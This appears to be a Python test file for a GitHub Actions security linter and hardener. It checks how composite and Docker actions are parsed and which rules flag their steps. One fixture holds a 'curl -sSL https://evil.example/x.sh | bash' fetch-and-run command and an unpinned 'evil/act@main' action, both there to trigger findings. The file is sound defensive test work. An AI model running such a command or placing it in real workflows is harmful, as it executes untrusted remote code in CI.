"""The shared reading of workflows and actions: an action's ``runs:`` is one pseudo-job whose steps are a composite
action's steps, so only the rules that judge steps (and a Docker action's image) apply to an ``action.yml``."""

from __future__ import annotations

from scaffold.rules.catalog import REGISTRY
from scaffold.rules.document import Document
from scaffold.rules.github.workflow import action_image, jobs, steps
from scaffold.rules.kinds import classify
from scaffold.rules.model import Kind
from scaffold.rules.runner import audit_tree

COMPOSITE = """\
name: setup
description: set up
runs:
  using: composite
  steps:
    - run: curl -sSL https://evil.example/x.sh | bash
      shell: bash
    - uses: evil/act@main
"""
# What a workflow-level rule would report on a workflow with the same steps: nothing of it applies to an action.
WORKFLOW_LEVEL = {
    "excessive-permissions", "dangerous-triggers", "missing-concurrency", "missing-timeout", "self-hosted-pr",
    "secrets-inherit", "free-form-release-input", "cache-in-release", "untrusted-checkout",
}  # fmt: skip


def test_action_files_are_classified_in_any_folder_and_nowhere_else() -> None:
    for path in ("action.yml", "action.yaml", ".github/actions/setup/action.yml", "tools/lint/action.yaml"):
        assert classify(path) is Kind.ACTION, path
    for path in ("actions.yml", ".github/workflows/action.yml", "action.yml.bak", "docs/action.json"):
        assert classify(path) is not Kind.ACTION, path


def test_a_composite_action_is_one_job_named_runs_with_its_steps() -> None:
    document = Document("action.yml", Kind.ACTION, COMPOSITE)
    [(name, job)] = list(jobs(document))
    assert name == "runs"
    assert [step.line for step in steps(job)] == [6, 8]
    assert action_image(document) is None


def test_a_docker_action_has_an_image_and_a_javascript_action_nothing() -> None:
    docker = Document("action.yml", Kind.ACTION, "runs:\n  using: docker\n  image: docker://alpine:3.20\n")
    found = action_image(docker)
    assert found is not None and (found[0].line, found[1]) == (3, "alpine:3.20")
    node = Document("action.yml", Kind.ACTION, "runs:\n  using: node20\n  main: index.js\n")
    assert [list(steps(job)) for _, job in jobs(node)] == [[]]
    assert action_image(node) is None
    assert list(jobs(Document("action.yml", Kind.ACTION, "runs: composite\n"))) == []


def test_a_workflow_named_like_an_action_is_not_read_as_one() -> None:
    workflow = Document(".github/workflows/ci.yml", Kind.WORKFLOW, "jobs:\n  runs:\n    using: composite\n")
    assert action_image(workflow) is None
    assert [name for name, _ in jobs(workflow)] == ["runs"]


def test_the_step_rules_judge_a_composite_action_and_the_workflow_level_rules_do_not() -> None:
    report = audit_tree({".github/actions/setup/action.yml": COMPOSITE})
    assert report.errors == []
    assert {(item.line, item.rule) for item in report.findings} == {(6, "adhoc-install"), (8, "unpinned-uses")}
    reading = {rule.id for rule in REGISTRY if Kind.ACTION in rule.kinds}
    assert reading.isdisjoint(WORKFLOW_LEVEL)
    assert "secrets-dump" not in reading  # a composite action has no secrets context to dump


def test_harden_fixes_a_composite_actions_steps_and_leaves_a_step_without_shell_to_the_user() -> None:
    from scaffold.harden.runner import harden_tree

    action = """\
runs:
  using: composite
  steps:
    - uses: actions/checkout@v4
    - run: echo "Hello ${{ inputs.who }}"
      shell: bash
    - run: echo "Hi ${{ inputs.who }}"
"""
    [result] = harden_tree({".github/actions/setup/action.yml": action}).results
    assert {change.rule for change in result.applied} == {"unpinned-uses", "artipacked", "template-injection"}
    assert "actions/checkout@11d5960a326750d5838078e36cf38b85af677262 # v4.4.0" in result.after
    assert 'echo "Hello ${INPUTS_WHO}"' in result.after and 'echo "Hi ${{ inputs.who }}"' in result.after
    assert [(note.line, note.rule) for note in result.notes] == [(7, "template-injection")]
    assert "the runner of the workflow that calls the action picks it" in result.notes[0].message


PARALLEL = """\
jobs:
  build:
    steps:
      - uses: actions/checkout@v6
      - parallel:
          - run: make frontend
          - uses: evil/act@main
          - not a step
      - run: make test
      - parallel: not a list
"""


def test_steps_of_a_parallel_group_are_read_in_place_and_the_group_is_not_a_step() -> None:
    document = Document(".github/workflows/ci.yml", Kind.WORKFLOW, PARALLEL)
    [(_, job)] = list(jobs(document))
    assert [step.line for step in steps(job)] == [4, 6, 7, 9, 10]
    findings = audit_tree({".github/workflows/ci.yml": PARALLEL}).findings
    assert any(item.rule == "unpinned-uses" and item.line == 7 for item in findings)
